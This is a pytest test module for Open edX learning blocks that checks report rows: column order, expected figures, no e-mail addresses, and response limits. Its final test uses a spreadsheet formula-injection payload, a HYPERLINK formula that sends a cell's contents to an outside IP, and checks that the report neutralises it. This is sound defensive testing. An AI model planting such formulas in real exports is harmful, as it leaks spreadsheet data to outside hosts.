"""``generate_report_data`` of every block as Open edX calls it: from a Celery task, the block bound to
no user, the iterator yielding ``XBlockUserState(username, block_key, state, updated, scope)`` items
(``scope`` is ``Scope.user_state``).  Every row starts with completion, completed_at, score and
max_score, then the block's own figures; no e-mail address; ``limit_responses`` is honoured."""
import pytest
from xblock.fields import Scope

from tests import report_course as fixtures
from tests.report_course import START, XBlockUserState

report_course = fixtures.report_course

LEAD = ["completion", "completed_at", "score", "max_score"]
DAY1 = "2026-11-20T"
DAY2 = "2026-11-21T02:00:00+00:00"

EXPECTED = {
    "lifelong_microlesson": {
        "ann": {"completion": 1.0, "completed_at": "2026-11-20T02:01:40+00:00", "score": 2.0, "max_score": 2.0,
                "coverage": 1.0, "attempts": 1},
        "-bob": {"completion": 0.0, "completed_at": "", "score": 0.0, "max_score": 2.0, "coverage": 0.0,
                 "attempts": 1},
    },
    "lifelong_live_session": {
        "ann": {"completion": 1.0, "completed_at": "2026-11-20T03:10:00+00:00", "score": None, "max_score": None,
                "status": "registered", "signed_up_at": "2026-11-20T02:01:40+00:00",
                "checked_in_at": "2026-11-20T03:10:00+00:00", "check_in_method": "staff", "replay_coverage": 0.0},
        "-bob": {"completion": 0.0, "completed_at": "", "score": None, "max_score": None, "status": "registered",
                 "signed_up_at": "2026-11-20T02:01:40+00:00", "checked_in_at": "", "check_in_method": "",
                 "replay_coverage": 0.0},
    },
    "lifelong_bookshelf": {
        "ann": {"completion": 1.0, "completed_at": DAY2, "score": None, "max_score": None, "books_recommended": 1,
                "votes": 1, "titles": "三体"},
        # voted (the rule was met: completion stays, as in Open edX) and took the vote back
        "-bob": {"completion": 1.0, "completed_at": DAY2, "score": None, "max_score": None, "books_recommended": 0,
                 "votes": 0, "titles": ""},
    },
    "lifelong_reading_log": {
        "ann": {"completion": 1.0, "completed_at": DAY2, "score": None, "max_score": None, "days": 1,
                "days_towards_goal": 1, "goal_days": 1, "current_streak": 1, "longest_streak": 1, "minutes": 30,
                "pages": 0, "last_day": "2026-11-21"},
    },
    "lifelong_recitation": {
        "ann": {"completion": 1.0, "completed_at": DAY2, "score": None, "max_score": None, "submitted_at": DAY2,
                "submissions": 1, "duration": 2.0, "gallery_consent": True, "featured": False, "plays": 0,
                "likes": 0},
    },
    "lifelong_nomination": {
        "ann": {"completion": 1.0, "completed_at": DAY2, "score": None, "max_score": None, "nominations": 1,
                "submitted": 1, "statuses": "{ann}:submitted"},
        "-bob": {"completion": 0.0, "completed_at": "", "score": None, "max_score": None, "nominations": 1,
                 "submitted": 0, "statuses": "{bob}:draft"},
    },
}


def states(course, tag, usernames):
    block_key = course.client(tag, "staff").block.scope_ids.usage_id
    return [XBlockUserState(name, block_key, {"learner_record": {"x": 1}}, START, Scope.user_state)
            for name in usernames]


def report(course, tag, usernames, limit_responses=None):
    block = course.blocks[tag](None).block          # bound to no user, as in the Celery task
    assert not block.person.is_authenticated
    return list(block.generate_report_data(iter(states(course, tag, usernames)), limit_responses=limit_responses))


@pytest.mark.parametrize("tag", sorted(EXPECTED))
def test_rows_of_every_block_column_by_column(report_course, tag):
    from lifelong_xblocks.models.nominations import Nomination  # noqa: PLC0415

    ids = {name.strip("-"): pk for pk, name in Nomination.objects.values_list("pk", "user__username")}
    rows = report(report_course, tag, ["ann", "-bob", "nobody"])
    expected = EXPECTED[tag]
    assert [username for username, _row in rows] == [name for name in ("ann", "-bob") if name in expected]
    for username, row in rows:
        want = {key: value.format(**ids) if isinstance(value, str) else value
                for key, value in expected[username].items()}
        assert list(row)[:4] == LEAD, (tag, list(row))
        assert list(row) == list(want), (tag, username)
        for column, value in want.items():
            assert row[column] == value, (tag, username, column, row[column])
        assert not any("@" in str(value) for value in row.values()), "no e-mail address"


@pytest.mark.parametrize("tag", sorted(EXPECTED))
def test_limit_responses_is_honoured(report_course, tag):
    assert len(report(report_course, tag, ["ann", "-bob"], limit_responses=1)) == 1
    assert report(report_course, tag, ["ann", "-bob"], limit_responses=0) == []


def test_learners_are_looked_up_in_chunks_and_every_one_is_reported(report_course, settings):
    from lifelong_xblocks.blocks import base  # noqa: PLC0415

    names = ["ann"] + [f"ghost{n}" for n in range(base.REPORT_CHUNK + 3)] + ["-bob"]
    rows = report(report_course, "lifelong_microlesson", names)
    assert [name for name, _row in rows] == ["ann", "-bob"]


def test_a_block_without_report_rows_of_its_own_reports_the_figures_it_noted(report_course, monkeypatch):
    from lifelong_xblocks.blocks.base import LifelongBlockMixin  # noqa: PLC0415
    from lifelong_xblocks.blocks.nomination import NominationBlock  # noqa: PLC0415

    monkeypatch.setattr(NominationBlock, "report_rows", LifelongBlockMixin.report_rows)
    rows = dict(report(report_course, "lifelong_nomination", ["ann", "-bob"]))
    assert list(rows["ann"]) == [*LEAD, "last_status", "nominations"]
    assert rows["ann"]["completion"] == 1.0 and rows["ann"]["last_status"] == "submitted"
    assert rows["-bob"]["completion"] == 0.0 and rows["-bob"]["last_status"] == "draft"


def test_text_chosen_by_learners_reaches_the_problem_responses_csv_neutralised(report_course):
    """Open edX writes these values into its CSV as they are: a book title that is a formula must not be one."""
    course = report_course
    formula = '=HYPERLINK("http://203.0.113.1/?"&A1,"click")'
    fixtures.ok(course.client("lifelong_bookshelf", "-bob").call("recommend", {"title": formula, "author": "M"}))
    rows = dict(report(course, "lifelong_bookshelf", ["-bob"]))
    assert rows["-bob"]["titles"] == "'" + formula
    assert all(not str(value).startswith(("=", "+", "-", "@")) for value in rows["-bob"].values())
